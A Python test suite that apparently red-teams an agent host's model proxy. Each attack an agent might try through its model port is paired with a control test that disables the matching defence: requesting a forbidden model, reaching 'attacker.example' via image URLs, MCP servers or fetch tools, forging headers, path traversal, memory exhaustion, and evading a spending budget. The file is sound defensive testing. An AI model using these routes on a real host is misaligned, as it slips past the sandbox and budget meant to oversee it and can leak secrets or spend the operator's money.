"""Code inside asks the model's port for more than the agent may have."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator, Callable
from typing import Any

import anyio
import pytest
from agent.test_model_proxy import FakeExchange, Head
from redteam.model_port import MODEL, Port, message, open_port

from agenthost.agent import model_json, model_policy
from agenthost.agent.credentials import ModelAccess
from agenthost.agent.model_budget import Bounds, Hold, ModelBudget
from agenthost.agent.model_guard import ModelGuard
from agenthost.agent.model_names import ModelNames
from agenthost.agent.model_policy import ModelPolicy
from agenthost.agent.model_proxy import ModelProxy
from agenthost.http import HttpClient
from agenthost.testing.loopback import Exchange, LoopbackServer

LIMIT = 120
DEAREST = "claude-mythos-5"
PAID = 402
REFUSED = 451

attack, control = pytest.mark.attack, pytest.mark.control


@pytest.fixture(scope="module")
async def port(anyio_backend: str) -> AsyncGenerator[Port]:
    """Return one way in for all attacks: an agent that may ask one cheap model, and reach nothing."""
    del anyio_backend
    async with open_port("local") as opened:
        yield opened


# What controls put in the place of a defence.


def always(*_: object) -> bool:
    return True


def never(*_: object) -> None:
    return None


def look_at_nothing(_: ModelPolicy, asked: dict[str, Any]) -> tuple[str, ...]:
    return (str(asked["model"]),)


# ---- models

ANOTHER = "a model that the options do not name"


async def ask_the_dearest(port: Port) -> bool:
    status, _ = await port.ask(message(model=DEAREST))
    return status == 200 and [one["model"] for one in port.service.read()] == [DEAREST]


@attack("ask the dearest model", ANOTHER)
async def test_a_model_that_the_options_do_not_name_is_not_asked(port: Port) -> None:
    assert not await ask_the_dearest(port)
    assert port.service.requests == []


@control(ANOTHER)
async def test_without_the_list_of_models_the_dearest_is_asked(
    port: Port, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ModelNames, "allow", always)
    assert await ask_the_dearest(port)


DEEPER = "a model that another part of the request names"


async def name_the_dearest_elsewhere(port: Port, **more: Any) -> bool:
    status, _ = await port.ask(message(**more))
    return status == 200 and DEAREST in json.dumps(port.service.read())


@attack("ask the dearest model", DEEPER)
@pytest.mark.parametrize(
    "more",
    [
        {"fallbacks": [{"model": DEAREST}]},
        {"tools": [{"type": "advisor_20260301", "name": "advisor", "model": DEAREST}]},
    ],
    ids=["fallback", "advisor"],
)
async def test_a_model_in_another_place_of_the_request_is_not_asked(port: Port, more: dict[str, Any]) -> None:
    assert not await name_the_dearest_elsewhere(port, **more)
    assert port.service.requests == []


@control(DEEPER)
async def test_without_a_look_at_the_whole_request_another_place_names_the_dearest(
    port: Port, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ModelPolicy, "_judge_body", look_at_nothing)
    assert await name_the_dearest_elsewhere(port, fallbacks=[{"model": DEAREST}])


TWICE = "a name that stands twice, which two parsers read differently"


async def name_two_models(port: Port) -> bool:
    body = json.dumps(message())
    status, _ = await port.ask(f'{{"model": "{DEAREST}", {body[1:]}')
    return status == 200 and [one["model"] for one in port.service.read()] == [DEAREST]


@attack("ask the dearest model", TWICE)
async def test_a_body_with_two_meanings_is_not_sent(port: Port) -> None:
    assert not await name_two_models(port)
    assert port.service.requests == []


@control(TWICE)
async def test_without_the_look_for_two_names_the_dearest_is_asked(
    port: Port, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(model_json, "_one_meaning", dict)
    assert await name_two_models(port)


# ---- the network

URL = "http://attacker.example/?secret"
WAYS_OUT: dict[str, tuple[str, dict[str, Any]]] = {
    "image": (
        "an image or a document that the model's service fetches",
        message({"type": "image", "source": {"type": "url", "url": URL}}),
    ),
    "file": (
        "a file of the account, by its id",
        message({"type": "document", "source": {"type": "file", "file_id": "file_1"}}),
    ),
    "mcp": (
        "an MCP server that the model's service connects to",
        message(mcp_servers=[{"type": "url", "url": URL, "name": "x"}]),
    ),
    "tool": (
        "a tool that the model's service runs",
        message(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    ),
    "inline": (
        "such a tool, defined in the middle of the conversation",
        message(
            {
                "type": "tool_addition",
                "tool": {
                    "type": "tool_definition",
                    "definition": {"type": "code_execution_20250825", "name": "code_execution"},
                },
            }
        ),
    ),
    "result": (
        "an image in a tool's result",
        message(
            {
                "type": "tool_result",
                "tool_use_id": "toolu_1",
                "content": [{"type": "image", "source": {"type": "url", "url": URL}}],
            }
        ),
    ),
}


async def reach_out(port: Port, way: str) -> bool:
    status, _ = await port.ask(WAYS_OUT[way][1])
    return status == 200 and port.service.read() == [WAYS_OUT[way][1]]


def _marked(mark: Callable[[str], Any]) -> list[Any]:
    return [pytest.param(name, marks=mark(words), id=name) for name, (words, _) in WAYS_OUT.items()]


@pytest.mark.parametrize("way", _marked(lambda words: attack("reach the network through the model", words)))
async def test_a_closed_network_is_closed_for_the_models_service_too(port: Port, way: str) -> None:
    assert not await reach_out(port, way)
    assert port.service.requests == []


@pytest.mark.parametrize("way", _marked(control))
async def test_without_a_look_at_the_body_the_models_service_reaches_out(
    port: Port, way: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ModelPolicy, "_judge_body", look_at_nothing)
    assert await reach_out(port, way)


# ---- the rest of the account

HEADERS = "headers that a proxy or a lenient server obeys"
FORGED = {
    "x-original-url": "/v1/files",
    "x-http-method-override": "DELETE",
    "x_api_key": "another",
    "api-key": "another",
    "anthropic-organization": "another",
}


async def forge_headers(port: Port) -> set[str]:
    await port.ask(message(), **FORGED)
    return set(FORGED) & {name for request in port.service.requests for name in request.headers}


@attack("use the host's key for something else", HEADERS)
async def test_headers_that_the_cli_does_not_send_are_dropped(port: Port) -> None:
    assert await forge_headers(port) == set()
    assert len(port.service.requests) == 1  # the request itself is an honest one


@control(HEADERS)
async def test_without_the_list_of_headers_forged_ones_are_passed_on(
    port: Port, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(model_policy, "_open_headers", _all_but_the_connections)
    assert {"x-original-url", "x-http-method-override", "api-key"} <= await forge_headers(port)


def _all_but_the_connections(headers: Any) -> list[tuple[str, str]]:
    own = ("host", "content-length", "content-type", "accept-encoding", "connection")
    return [(name.lower(), value) for name, value in headers if name.lower() not in own]


PATHS = "another path of the API"


async def ask_for_batches(port: Port, path: str) -> bool:
    status, _ = await port.ask(message(), path=path)
    return status == 200 and [request.target for request in port.service.requests] == [path]


@attack("use the host's key for something else", PATHS)
@pytest.mark.parametrize(
    "path", ["/v1/messages/batches", "/v1/messages/../files", "/v1/messages?path=/v1/files"]
)
async def test_only_the_models_own_paths_are_open(port: Port, path: str) -> None:
    assert not await ask_for_batches(port, path)
    assert port.service.requests == []


@control(PATHS)
async def test_without_the_list_of_paths_another_is_asked(
    port: Port, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ModelPolicy, "judge_head", never)
    assert await ask_for_batches(port, "/v1/messages/batches")


VALUES = "JSON of more values than the host can hold"
MANY = 50_000


async def have_many_values_built(port: Port, patch: pytest.MonkeyPatch) -> bool:
    patch.setattr(model_json, "MOST_VALUES", MANY)  # half a million take a second
    status, _ = await port.ask(MANY)
    return status == 200


@attack("exhaust the host's memory", VALUES)
async def test_a_body_with_too_many_values_is_refused_before_they_are_built(
    port: Port, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert not await have_many_values_built(port, monkeypatch)


@control(VALUES)
async def test_without_a_count_the_values_are_built(port: Port, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(model_json, "_check_size", never)
    monkeypatch.setattr(ModelPolicy, "_judge_body", look_at_nothing)
    assert await have_many_values_built(port, monkeypatch)


# ---- money: the guest's end is held by the test, which can hang up when it likes

BODY = b'{"model": "claude-haiku-4-5", "max_tokens": 1000, "stream": true}'
START = (
    b'event: message_start\ndata: {"type": "message_start", "message": {"usage": '
    b'{"input_tokens": 1000, "output_tokens": 1}}}\n\n'
)
END = b'event: message_delta\ndata: {"type": "message_delta", "usage": {"output_tokens": 1000}}\n\n'


class Spender:
    """Asks a service that answers in events, as often as it can."""

    def __init__(self, bounds: Bounds, *, hold: anyio.Event | None = None, body: bytes = BODY) -> None:
        self.body = body
        self.guard = ModelGuard(ModelPolicy(ModelNames([MODEL])), ModelBudget(bounds))
        self.arrived = 0
        self.all_arrived = anyio.Event()
        self.wanted = 0
        self._hold = hold
        self._server = LoopbackServer(self._answer)

    async def _answer(self, exchange: Exchange) -> None:
        self.arrived += 1
        if self.arrived == self.wanted:
            self.all_arrived.set()
        await exchange.start(200, {"content-type": "text/event-stream"})
        await exchange.write(START)
        if self._hold is not None:
            await self._hold.wait()
        await exchange.write(END)
        await exchange.finish()

    async def spend(self, count: int, *, at_once: bool = False, hangs_up: bool = False) -> list[int | None]:
        """Ask so often; return the statuses of the answers."""
        exchanges = [FakeExchange(Head(), [self.body]) for _ in range(count)]
        with anyio.fail_after(LIMIT):
            async with self._server as server, HttpClient() as client, anyio.create_task_group() as tasks:
                proxy = ModelProxy(ModelAccess(server.url, ()), self.guard, request_bytes=1 << 20)
                for exchange in exchanges:
                    if hangs_up:
                        exchange.on_data = exchange.gone.set
                    if at_once:
                        tasks.start_soon(proxy.serve, client, exchange)
                    else:
                        await proxy.serve(client, exchange)
                if at_once and self._hold is not None:
                    await anyio.wait_all_tasks_blocked()
                    if self.wanted:
                        await self.all_arrived.wait()
                    self._hold.set()
        return [exchange.status for exchange in exchanges]


TINY = Bounds(budget=0.000001)  # dollars: less than any request costs
ONE_AFTER_ANOTHER = "requests one after another, without the CLI that counts them"


@attack("spend more than the budget", ONE_AFTER_ANOTHER)
async def test_a_budget_ends_requests_that_the_cli_does_not_count() -> None:
    assert await Spender(TINY).spend(50) == [200] + [PAID] * 49


@control(ONE_AFTER_ANOTHER)
async def test_without_the_hosts_count_each_request_is_paid_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ModelBudget, "_refusal", never)
    assert await Spender(TINY).spend(50) == [200] * 50


AT_ONCE = "requests at once, before the first has stated its cost"


@attack("spend more than the budget", AT_ONCE)
async def test_requests_at_once_wait_for_what_those_before_them_cost() -> None:
    spender = Spender(TINY, hold=anyio.Event())
    statuses = await spender.spend(20, at_once=True)
    assert sorted(statuses, key=str) == [200] + [PAID] * 19
    assert spender.arrived == 1


@control(AT_ONCE)
async def test_without_reservations_all_requests_at_once_are_paid_for(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(ModelBudget, "_has_room", always)
    spender = Spender(TINY, hold=anyio.Event())
    spender.wanted = 20
    assert await spender.spend(20, at_once=True) == [200] * 20


MEDIA = "images and documents at once whose tokens do not show in their bytes"
THREE = Bounds(usd=0.015)  # dollars: three of the requests below, by what the service states


def body_of_media(kind: str) -> bytes:
    """Return a request of a few hundred bytes with two images, or with a document."""
    block = {"type": kind, "source": {"type": "base64", "media_type": "x", "data": "AAAA"}}
    asked = message(*[{"type": "tool_result", "content": [block]}] * 2, stream=True, max_tokens=1)
    return json.dumps(asked).encode()


@attack("spend more than the budget", MEDIA)
@pytest.mark.parametrize("kind", ["image", "document"])
async def test_images_and_documents_at_once_wait_for_what_those_before_them_cost(kind: str) -> None:
    spender = Spender(THREE, hold=anyio.Event(), body=body_of_media(kind))
    assert sorted(await spender.spend(20, at_once=True), key=str) == [200] * 3 + [PAID] * 17


@control(MEDIA)
@pytest.mark.parametrize("kind", ["image", "document"])
async def test_where_bytes_alone_count_all_of_them_are_paid_for(
    kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def count_nothing(_: object) -> tuple[int, int]:
        return 0, 0

    monkeypatch.setattr(model_policy, "_count_media", count_nothing)
    spender = Spender(THREE, hold=anyio.Event(), body=body_of_media(kind))
    spender.wanted = 20
    assert await spender.spend(20, at_once=True) == [200] * 20


HANGING_UP = "hanging up before the answer states its cost"


@attack("spend more than the budget", HANGING_UP)
async def test_an_answer_that_the_agent_hangs_up_on_is_counted() -> None:
    spender = Spender(TINY, hold=anyio.Event())
    statuses = await spender.spend(20, hangs_up=True)
    assert statuses == [200] + [PAID] * 19


@control(HANGING_UP)
async def test_without_a_count_of_broken_answers_hanging_up_is_free(monkeypatch: pytest.MonkeyPatch) -> None:
    def used(hold: Hold) -> tuple[int, float]:
        return (0, 0.0) if hold.reader is None or not hold.reader.is_final else (1, 1.0)

    monkeypatch.setattr(Hold, "used", used)
    spender = Spender(TINY, hold=anyio.Event())
    assert await spender.spend(20, hangs_up=True) == [200] * 20


TURNS = "more requests than the turns that were allowed"


@attack("spend more than the budget", TURNS)
async def test_the_number_of_requests_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("agenthost.agent.model_budget._EACH_PROMPT", 5)  # 1,100 requests would take a second
    monkeypatch.setattr("agenthost.agent.model_budget._EACH_TURN", 3)
    assert await Spender(Bounds(turns=1)).spend(20) == [200] * 8 + [PAID] * 12


@control(TURNS)
async def test_without_the_count_of_requests_turns_bound_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ModelBudget, "_refusal", never)
    assert await Spender(Bounds(turns=1)).spend(20) == [200] * 20
